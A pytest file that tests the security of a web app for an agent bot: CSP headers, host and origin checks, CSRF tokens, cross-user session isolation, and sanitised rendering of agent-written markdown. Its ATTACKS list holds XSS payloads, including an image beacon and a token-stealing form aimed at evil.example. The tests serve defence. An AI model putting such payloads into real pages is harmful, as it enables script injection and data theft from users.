"""Foreign hosts, foreign pages, foreign people, and what agents write."""

import pytest
from starlette.routing import Route

from bot.web import app
from bot.web.guard import FORM_BYTES
from bot.web.markdown import rendered
from service.domain.ids import SessionNumber
from service.domain.persons import Identity
from tests.channels.web.visiting import TOKEN, House

POSTS = [
    route.path
    for route in app.ROUTES
    if isinstance(route, Route)
    and "POST" in (route.methods or ())
    and route.path not in ("/login", "/a/{token}")
]


def path_of(route: str) -> str:
    for name, value in {
        "{number:number}": "1",
        "{seq:number}": "1",
        "{item}": "x",
        "{version:number}": "1",
        "{path:path}": "result.md",
        "{blob}": "x",
        "{phone}": "x",
    }.items():
        route = route.replace(name, value)
    return route


async def test_every_answer_tells_the_browser_to_run_nothing_else(house: House) -> None:
    ann = await house.admin()
    for path in ("/", "/login", "/nowhere", "/static/page.js", "/settings"):
        headers = (await ann.get(path)).headers
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "script-src 'self'" in policy
        assert "unsafe" not in policy
        assert headers["x-content-type-options"] == "nosniff"
    page = (await ann.get("/")).text
    assert "<script>" not in page
    assert " style=" not in page
    assert " onclick=" not in page


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:8420", "127.0.0.1.evil.example", ""]
)
async def test_a_foreign_host_is_refused_with_advice(house: House, host: str) -> None:
    answer = await house.browser(host=host).get("/login")
    assert answer.status_code == 421
    assert "HEDDLE_HTTP__ALLOWED_HOSTS" in answer.text


@pytest.mark.parametrize(
    "host", ["localhost:8420", "[::1]:8420", "127.0.0.1", "heddle.example.org"]
)
async def test_our_own_hosts_are_known(house: House, host: str) -> None:
    assert (await house.browser(host=host).get("/login")).status_code == 200


@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "https://evil.example", "sec-fetch-site": "cross-site"},
        {"origin": "null", "sec-fetch-site": "same-origin"},
        {"origin": "http://127.0.0.1:9999", "sec-fetch-site": "same-site"},
        {"origin": "https://evil.example", "sec-fetch-site": "same-origin"},
    ],
)
async def test_a_post_from_a_foreign_page_is_refused(house: House, headers: dict[str, str]) -> None:
    answer = await house.browser(**headers).http.post("/login", data={"token": TOKEN})
    assert answer.status_code == 403
    assert "set-cookie" not in answer.headers


@pytest.mark.parametrize("route", POSTS)
async def test_every_post_needs_the_forms_token(house: House, route: str) -> None:
    ann, bob = await house.admin(), await house.guest("Bob")
    for csrf in ("", "wrong", await bob.csrf()):
        answer = await ann.http.post(path_of(route), headers={"x-csrf-token": csrf})
        assert answer.status_code == 403, route
    stranger = await house.browser().http.post(path_of(route), headers={"x-csrf-token": "x"})
    assert stranger.headers["location"].startswith("/login")


async def test_somebody_elses_session_is_not_there(house: House) -> None:
    ann, bob = await house.admin(), await house.guest("Bob")
    number = await ann.start("A secret plan")
    item = await house.scene.asks(number, "Which one?", "A", "B")
    gets = [f"/threads/{number}", f"/threads/{number}/earlier?before=9", f"/live?thread={number}"]
    gets += [f"/threads/{number}/captures/1/result.md", f"/threads/{number}/messages/1/files/x"]
    for path in gets:
        answer = await bob.get(path)
        assert answer.status_code == 404, path
        missing = await bob.get(path.replace(f"/{number}", "/99").replace("=1", "=99"))
        assert missing.text == answer.text
    posts = [
        (f"/threads/{number}/messages", {"text": "mine now"}),
        (f"/threads/{number}/orders", {"verb": "stop"}),
        (f"/threads/{number}/messages/1/edit", {"text": "changed"}),
        (f"/threads/{number}/messages/1/delete", {}),
        (f"/items/{item}/answer", {"text": "A"}),
    ]
    for path, fields in posts:
        assert (await bob.post(path, **fields)).status_code == 404, path
    assert "A secret plan" not in (await bob.get("/")).text
    assert len(await house.scene.open_items(number)) == 1


async def test_a_collaborator_sees_and_answers(house: House) -> None:
    ann, bob = await house.admin(), await house.guest("Bob")
    number = await ann.start("Our plan")
    item = await house.scene.asks(number, "Which one?", "A", "B")
    await ann.post(f"/threads/{number}/messages", text="!share @bob")
    page = await bob.get(f"/threads/{number}")
    assert "Which one?" in page.text
    assert "Ann’s" in (await bob.get("/")).text
    assert (await bob.post(f"/items/{item}/answer", text="B")).status_code == 200
    assert await house.scene.open_items(number) == []


async def test_a_repeated_message_id_tells_nothing_about_somebody_elses(house: House) -> None:
    ann, bob = await house.admin(), await house.guest("Bob")
    first = await ann.start("A secret plan", message="same")
    second = await bob.start("Another plan", message="same")
    assert first != second


async def test_a_large_body_is_refused(house: House) -> None:
    ann = await house.admin()
    answer = await ann.post("/threads", thread="x", text="x" * (FORM_BYTES + 1))
    assert answer.status_code == 413
    assert "limit" in answer.json()["text"]


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?leak)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](https://example.org 'onmouseover=alert(1)')",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "<style>*{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=token></form>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_an_agent_writes_can_do_nothing(attack: str) -> None:
    html = rendered(attack)
    for tag in ("<script", "<img", "<style", "<iframe", "<form", "<input", 'javascript:alert(1)"'):
        assert tag not in html
    assert "onerror=" not in html or "&lt;img" in html


def test_a_link_opens_elsewhere_and_tells_nothing() -> None:
    html = rendered("[x](https://example.org)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


@pytest.mark.parametrize("attack", ATTACKS)
async def test_no_text_of_anybody_becomes_a_tag(house: House, attack: str) -> None:
    ann = await house.admin()
    number = await ann.start(attack)
    await house.scene.asks(number, attack, attack)
    for path in ("/", f"/threads/{number}"):
        page = (await ann.get(path)).text
        assert attack not in page or not attack.startswith("<")
        assert "<script>alert" not in page
        assert "<img src=x" not in page


async def test_numbers_are_numbers(house: House) -> None:
    ann = await house.admin()
    for much in ("x", "9" * 20, "9" * 5000):
        for path in ("/threads/{}", "/threads/1/captures/{}/a", "/threads/1/messages/{}/files/x"):
            assert (await ann.get(path.format(much))).status_code == 404, path
        for path in ("/live?thread={}", "/live?after={}", "/threads/1/earlier?before={}"):
            assert (await ann.get(path.format(much))).status_code == 409, path
    unknown = Identity("web", "local", "nobody")
    found = await house.scene.read(lambda reads: reads.person_by_identity(unknown))
    assert found is None
    assert await house.scene.read(lambda reads: reads.session(SessionNumber(1))) is None
